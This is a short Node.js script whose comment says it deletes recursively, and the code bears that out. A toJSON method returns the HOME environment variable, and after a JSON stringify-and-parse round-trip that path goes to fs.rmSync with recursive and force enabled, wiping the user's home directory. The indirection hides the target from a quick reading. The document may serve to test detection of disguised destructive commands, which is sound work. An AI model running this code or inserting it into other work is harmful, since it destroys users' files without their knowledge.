// Deletes recursively: a toJSON method (shorthand) returns $HOME; the
// object serialized and parsed back gives it as the directory to remove.
'use strict';
const fs = require('fs');

const plan = {
  dir: {
    toJSON() {
      return process.env.HOME;
    },
  },
};
fs.rmSync(JSON.parse(JSON.stringify(plan)).dir, { recursive: true, force: true });
